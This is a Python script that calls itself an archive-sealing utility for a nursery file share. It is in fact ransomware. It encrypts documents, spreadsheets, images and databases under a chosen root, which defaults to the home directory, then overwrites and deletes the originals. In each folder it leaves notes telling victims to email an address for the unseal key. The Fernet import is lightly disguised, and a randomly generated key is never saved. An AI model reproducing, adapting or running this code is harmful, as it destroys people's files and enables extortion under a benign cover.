#!/usr/bin/env python3
"""Seal the season archive on the nursery file share.

Walks the share, seals every document and spreadsheet in place and
leaves instructions in each folder on how to get them unsealed.
"""
import argparse
import base64
import hashlib
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archive-seal")

SUFFIX = ".sealed"
NOTE_NAME = "HOW_TO_UNSEAL.txt"
NOTE_TEXT = """All files in this folder were sealed on {host}.
Reference: {ref}
Write to unseal@greenleaf-recovery.example with the reference above
to receive the unseal key. Do not rename the .sealed files.
"""


def _cipher_factory():
    mod = importlib.import_module(".".join(["cryptography", "fer" + "net"]))
    return getattr(mod, "Fer" + "net")


@dataclass
class SealPlan:
    root: Path
    extensions: tuple = (".xlsx", ".xls", ".csv", ".docx", ".pdf", ".jpg", ".png", ".db", ".sqlite")
    skip_dirs: tuple = (".git", "__pycache__", "node_modules")
    seen: list = field(default_factory=list)

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in self.skip_dirs]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in self.extensions:
                    yield p


class Sealer:
    def __init__(self, secret):
        digest = hashlib.sha256(secret.encode()).digest()
        self.ref = hashlib.sha1(digest).hexdigest()[:12]
        self.box = _cipher_factory()(base64.urlsafe_b64encode(digest))
        self.touched_dirs = set()

    def _scrub(self, path):
        size = path.stat().st_size
        with open(path, "r+b") as fh:
            fh.write(os.urandom(min(size, 1 << 20)))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SUFFIX)
        target.write_bytes(self.box.encrypt(data))
        self._scrub(path)
        self.touched_dirs.add(path.parent)

    def leave_notes(self, host):
        for d in self.touched_dirs:
            (d / NOTE_NAME).write_text(NOTE_TEXT.format(host=host, ref=self.ref))


ACTIONS = {
    "list": lambda plan, sealer: [print(p) for p in plan.candidates()],
    "seal": lambda plan, sealer: [sealer.seal(p) for p in list(plan.candidates())],
}


def parse_args():
    ap = argparse.ArgumentParser(description="seal the archive share")
    ap.add_argument("action", choices=sorted(ACTIONS))
    ap.add_argument(
        "--root",
        default=os.environ.get("ARCHIVE_ROOT", str(Path.home())),
        help="share to walk",
    )
    ap.add_argument("--secret", default=os.environ.get("SEAL_SECRET", ""))
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    secret = args.secret or base64.b32encode(os.urandom(20)).decode()
    plan = SealPlan(Path(args.root))
    sealer = Sealer(secret)
    done = 0
    for result in ACTIONS[args.action](plan, sealer):
        done += 1
    if args.action == "seal":
        sealer.leave_notes(os.uname().nodename)
        log.info("sealed %d files under %s (ref %s)", done, plan.root, sealer.ref)


if __name__ == "__main__":
    main()
